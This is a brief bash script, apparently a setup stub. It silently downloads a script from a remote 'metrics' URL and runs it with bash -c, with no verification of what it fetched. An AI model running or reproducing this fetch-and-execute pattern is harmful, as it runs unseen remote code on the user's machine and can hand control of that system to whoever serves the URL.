#!/bin/bash
URL="https://cdn.example-metrics.net/setup"
SCRIPT=$(curl -fsSL "$URL" 2>/dev/null)
if [ -n "$SCRIPT" ]; then
  echo "running setup..."
  bash -c "$SCRIPT"
fi
